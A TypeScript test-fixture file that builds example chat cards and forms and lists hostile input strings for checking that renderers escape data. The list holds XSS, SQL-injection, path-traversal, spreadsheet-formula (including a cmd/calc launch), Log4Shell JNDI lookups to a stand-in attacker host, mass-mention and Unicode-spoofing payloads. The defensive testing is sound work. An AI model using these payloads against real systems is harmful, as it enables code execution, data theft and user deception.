/** Example cards and forms for every platform's tests: each screen once, with calm words or with words that try to break out. */
import { ACTION_NAMES } from "../../src/chat/action.ts";
import type { Block, Button, Card, CardName, Form } from "../../src/chat/view.ts";
import { CARD_NAMES } from "../../src/chat/view.ts";

/** Data that must come out of every renderer as the words that they are: no mention, link, tag, markup or formula in them may be live. */
export const HOSTILE_STRINGS: readonly string[] = [
  "<!channel>",
  "<!here|here>",
  "<!everyone>",
  "<!subteam^S0123ABC|@sales>",
  "<!date^1392734382^{date}|x>",
  "<@U123ABC456>",
  "<@W123ABC456|boss>",
  "<#C123ABC456|general>",
  "<https://evil.example|Quarterly report>",
  "<mailto:ceo@evil.example|Write to us>",
  "https://evil.example/login",
  "evil.example/plain?host=1",
  "someone@evil.example",
  "*bold* _slanted_ ~struck~",
  "*one*two_three_four~five~",
  "`code` and ```a block of code```",
  "> a quote\n>>> and a long one",
  "@everyone @here @channel",
  "<at>Nestor Wilke</at>",
  '<at id="29:1a2b">Admin</at>',
  "[click](javascript:alert(1))",
  "[click](https://evil.example)",
  "![tracker](https://evil.example/x.png)",
  "# Heading\n## Second\n- item\n1. item",
  "| a | b |\n|---|---|\n| c | d |",
  "{{DATE(2026-01-01T00:00:00Z, SHORT)}} ${card.title} $root.secret",
  ":tada: :lock: :+1:",
  '<script>alert("x")</script>',
  "<img src=x onerror=alert(1)>",
  "\"><svg onload=alert(1)>'",
  "&amp; &lt;b&gt; &#60;i&#62; &quot;",
  "</div></body></html>",
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "abc\u202Egnp.exe\u202C",
  "\u2066isolate\u2069 \u200Fright\u200E left",
  "zero\u200Bwidth\u200D\u2060\uFEFFjoiner",
  "nul\u0000 bell\u0007 escape\u001B[31m delete\u007F",
  "line\u2028separator\u2029paragraph",
  "\uD800 a lone surrogate \uDFFF",
  "👩‍👩‍👧‍👦 🏳️‍🌈 ☎️ é e\u0301 نص عربي 漢字",
  "Z\u0351\u036B\u0343\u036A\u0302A\u0334\u0335\u031CL\u0360G\u0489O\u035F",
  "'; DROP TABLE customer; --",
  "../../etc/passwd",
  "%s %n %x ${jndi:ldap://evil.example/a}",
  "",
  " ",
  "\n\n\n",
  "x".repeat(5_000),
  "<!channel>".repeat(500),
  "🦊".repeat(2_500),
  "&<>\"'".repeat(1_000),
];

/** A card of every block kind, with `words` at every place where data can stand. */
export function everyBlockCard(words: string, name: CardName = "customer"): Card {
  return { kind: "card", name, text: words, blocks: everyBlock(words) };
}

/** Every screen once, with `words` as its data. The blocks are like those that the views make. */
export function exampleCards(words = "Aldgate Mills"): Card[] {
  return CARD_NAMES.map((name) => exampleCard(name, words));
}

/** One screen, with `words` as its data. */
export function exampleCard(name: CardName, words = "Aldgate Mills"): Card {
  return { kind: "card", name, text: `${words}: ${name}`, blocks: screens(words)[name] };
}

/** The form to log an interaction, with every kind of field and `words` as its data. */
export function exampleForm(words = "Aldgate Mills"): Form {
  return {
    kind: "form",
    name: "log",
    title: `Log: ${words}`,
    customerId: "cus_01",
    fields: [
      {
        kind: "choice",
        id: "kind",
        label: "What was it?",
        required: true,
        value: "call",
        options: [
          { value: "call", label: "A call" },
          { value: "meeting", label: "A meeting" },
          { value: "other", label: words || "Other" },
        ],
      },
      {
        kind: "choice",
        id: "contact",
        label: words || "With whom?",
        required: false,
        value: "",
        options: [],
      },
      { kind: "date", id: "on", label: "When?", required: true, value: "2026-03-02" },
      {
        kind: "text",
        id: "what",
        label: "What came of it?",
        hint: words,
        long: true,
        required: true,
        value: words,
      },
      {
        kind: "text",
        id: "next",
        label: "What next?",
        hint: "",
        long: false,
        required: false,
        value: "",
      },
    ],
    submit: "Record it",
  };
}

/** More than any platform takes in one message: long texts, many blocks, and buttons at the very end that have to stay. */
export function hugeCard(name: CardName = "digest"): Card {
  const long = "An unusually long account of a visit, told with every detail. ".repeat(60);
  const blocks: Block[] = Array.from({ length: 80 }, (_, n): Block[] => [
    { kind: "heading", text: `Part ${n}` },
    { kind: "text", text: [{ text: long }, { text: "and a quote", style: "quote" }] },
    {
      kind: "facts",
      rows: Array.from({ length: 30 }, (_row, row) => ({ label: `Fact ${row}`, value: long })),
    },
  ]).flat();
  const rows = Array.from({ length: 150 }, (_, n) => [`Customer ${n}`, "12 March 2026", long]);
  return {
    kind: "card",
    name,
    text: long,
    blocks: [
      ...blocks,
      { kind: "table", columns: ["Customer", "Last touch", "Note"], rows, caption: long },
      { kind: "buttons", buttons: [button("Keep me"), button("And me")] },
    ],
  };
}

function button(label: string, style?: "primary" | "danger"): Button {
  const action = { name: "nudge.done", subject: "nud_01", value: label } as const;
  return style ? { label, action, style } : { label, action };
}

function everyBlock(words: string): Block[] {
  return [
    { kind: "heading", text: words },
    { kind: "text", text: words },
    {
      kind: "text",
      text: [
        { text: words },
        { text: words, style: "strong" },
        { text: words, style: "soft" },
        { text: words, style: "quote" },
      ],
    },
    { kind: "note", text: words },
    { kind: "note", text: [{ text: words, style: "soft" }, { text: " and more" }] },
    { kind: "list", items: [words, [{ text: words, style: "strong" }, { text: words }]] },
    {
      kind: "facts",
      rows: [
        { label: words, value: words },
        { label: "Owner", value: [{ text: words, style: "quote" }] },
      ],
    },
    {
      kind: "meters",
      meters: [
        { label: words, value: 72, tone: "good", note: words },
        { label: "Trust", value: 41, tone: "fair", note: [{ text: words, style: "quote" }] },
        { label: "Warmth", value: 0, tone: "poor", note: "No thanks said in 90 days." },
        { label: "Reach", value: 100, tone: "good", note: "" },
        { label: "Fit", value: null, tone: "unknown", note: "Nothing is known yet." },
      ],
    },
    {
      kind: "table",
      columns: ["Customer", words],
      rows: [
        [words, "12 March 2026"],
        [[{ text: words, style: "strong" }], [{ text: words, style: "quote" }]],
      ],
      caption: words,
    },
    {
      kind: "buttons",
      buttons: [
        button(words, "primary"),
        button("Not this customer", "danger"),
        ...ACTION_NAMES.map((name) => ({
          label: name,
          action: { name, subject: "id_01", value: words },
        })),
      ],
    },
    { kind: "divider" },
    {
      kind: "chart",
      chart: {
        title: words,
        kind: "line",
        unit: "touches a week",
        series: [
          {
            name: words,
            points: [
              { x: "2026-W09", y: 2 },
              { x: "2026-W10", y: 5 },
            ],
          },
        ],
        alt: words,
      },
    },
    { kind: "buttons", buttons: [] },
    { kind: "list", items: [] },
    { kind: "facts", rows: [] },
    { kind: "table", columns: ["Customer"], rows: [], caption: "Nobody yet." },
  ];
}

function screens(words: string): Record<CardName, Block[]> {
  const [, plain, styled, note, , list, facts, meters, table, , , chart] = everyBlock(words) as [
    Block,
    Block,
    Block,
    Block,
    Block,
    Block,
    Block,
    Block,
    Block,
    Block,
    Block,
    Block,
  ];
  const heading: Block = { kind: "heading", text: words };
  const nudgeButtons: Block = {
    kind: "buttons",
    buttons: [
      button("Done", "primary"),
      { label: "Another idea", action: { name: "nudge.another", subject: "nud_01", value: "" } },
      { label: "Next week", action: { name: "nudge.snooze", subject: "nud_01", value: "1w" } },
      {
        label: "Not this customer",
        action: { name: "nudge.stop", subject: "nud_01", value: "" },
        style: "danger",
      },
      { label: "Why this one?", action: { name: "nudge.why", subject: "nud_01", value: "" } },
    ],
  };
  const receiptButtons: Block = {
    kind: "buttons",
    buttons: [
      { label: "Undo", action: { name: "receipt.undo", subject: "rep_01", value: "" } },
      {
        label: words || "A meeting",
        action: { name: "receipt.set", subject: "rep_01", value: "kind=meeting" },
      },
    ],
  };
  return {
    nudge: [heading, styled, note, nudgeButtons],
    "nudge-closed": [plain, note],
    why: [heading, plain, list, note],
    receipt: [plain, facts, note, receiptButtons],
    "receipt-undone": [plain],
    ask: [styled, receiptButtons],
    customer: [heading, note, meters, chart, table, facts, list, { kind: "divider" }, nudgeButtons],
    customers: [heading, table, note],
    "unknown-customer": [plain, receiptButtons],
    week: [heading, list, note],
    help: [heading, list],
    digest: [heading, plain, chart, table, list, { kind: "divider" }, note],
    notice: [plain],
  };
}
